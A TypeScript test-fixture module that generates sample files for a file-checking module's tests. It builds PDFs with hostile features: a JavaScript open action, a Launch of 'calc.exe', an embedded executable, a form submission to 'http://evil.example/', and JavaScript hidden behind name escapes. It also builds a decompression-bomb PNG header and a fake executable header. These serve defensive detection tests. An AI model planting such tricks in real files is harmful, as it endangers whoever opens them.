// Real small files for the files module's tests, built on the spot (no binaries in the repository).
import { crc32, deflateSync } from 'node:zlib';
import { zipSync, type Zippable } from 'fflate';
import { PDFDocument, PDFName, PDFString, type PDFDict } from 'pdf-lib';
import sharp from 'sharp';

/** A one-page PDF with a line of text, saved with object streams (pdf-lib's default). */
export async function genuinePdf(extend?: (document: PDFDocument) => void): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.addPage([200, 200]).drawText('Yizhan test page', { x: 20, y: 100, size: 12 });
  extend?.(document);
  return Buffer.from(await document.save({ useObjectStreams: true }));
}

/** An action dictionary, registered as an indirect object (so it lands in an object stream). */
export function registerAction(document: PDFDocument, action: Record<string, unknown>): ReturnType<PDFDocument['context']['register']> {
  return document.context.register(document.context.obj(action as never));
}

export const pdfWith = {
  openActionJavaScript: () =>
    genuinePdf((document) => {
      document.catalog.set(
        PDFName.of('OpenAction'),
        registerAction(document, { Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert(1)') }),
      );
    }),
  openActionGoTo: () =>
    genuinePdf((document) => {
      const page = document.getPage(0).ref;
      document.catalog.set(PDFName.of('OpenAction'), registerAction(document, { S: 'GoTo', D: [page, 'Fit'] }));
    }),
  pageAdditionalAction: () =>
    genuinePdf((document) => {
      const open = registerAction(document, { S: 'Launch', F: PDFString.of('calc.exe') });
      (document.getPage(0).node as PDFDict).set(PDFName.of('AA'), document.context.obj({ O: open }));
    }),
  embeddedFile: () =>
    genuinePdf((document) => {
      void document.attach(Buffer.from('MZ payload'), 'readme.exe', { mimeType: 'application/octet-stream' });
    }),
  submitForm: () =>
    genuinePdf((document) => {
      document.catalog.set(
        PDFName.of('OpenAction'),
        registerAction(document, { S: 'SubmitForm', F: PDFString.of('http://evil.example/') }),
      );
    }),
  xfa: () =>
    genuinePdf((document) => {
      document.catalog.set(PDFName.of('AcroForm'), document.context.obj({ Fields: [], XFA: PDFString.of('<xdp/>') }));
    }),
};

/** A hand-written PDF whose JavaScript action is spelled with `#xx` name escapes. */
export const ESCAPED_JAVASCRIPT_PDF = Buffer.from(
  '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n' +
    '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 10 10]>>endobj\n4 0 obj<</S/J#61vaScript/J#53(app.alert)>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
);

/** A PDF of about `bytes` bytes: one page and an unreferenced stream of incompressible bytes. */
export async function largePdf(bytes: number, fill: (size: number) => Uint8Array): Promise<Buffer> {
  return genuinePdf((document) => {
    document.context.register(document.context.stream(fill(bytes - 2000)));
  });
}

export function genuinePng(width = 16, height = 12): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: '#2a6' } })
    .png()
    .toBuffer();
}

export function genuineJpeg(width = 16, height = 12): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: '#a62' } })
    .jpeg()
    .toBuffer();
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A tiny, well-formed PNG that claims `width`×`height` pixels: a decompression bomb's header. */
export function pngClaiming(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(Buffer.alloc(width * 3 + 1))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

export const OFD_XML = Buffer.from(
  '<?xml version="1.0" encoding="UTF-8"?><ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" Version="1.0" DocType="OFD"><ofd:DocBody><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>',
);
const DOCUMENT_XML = Buffer.from(
  '<?xml version="1.0" encoding="UTF-8"?><ofd:Document xmlns:ofd="http://www.ofdspec.org/2016"><ofd:CommonData><ofd:MaxUnitID>1</ofd:MaxUnitID></ofd:CommonData></ofd:Document>',
);

/** An OFD package: OFD.xml at the root, a document, an image resource; `extra` adds or replaces entries. */
export async function genuineOfd(extra: Zippable = {}): Promise<Buffer> {
  return Buffer.from(
    zipSync({ 'OFD.xml': OFD_XML, 'Doc_0/Document.xml': DOCUMENT_XML, 'Doc_0/Res/seal.png': await genuinePng(), ...extra }),
  );
}

/** A minimal Windows executable's first bytes (MZ header). */
export const EXE = Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff', 'latin1'), Buffer.alloc(200)]);
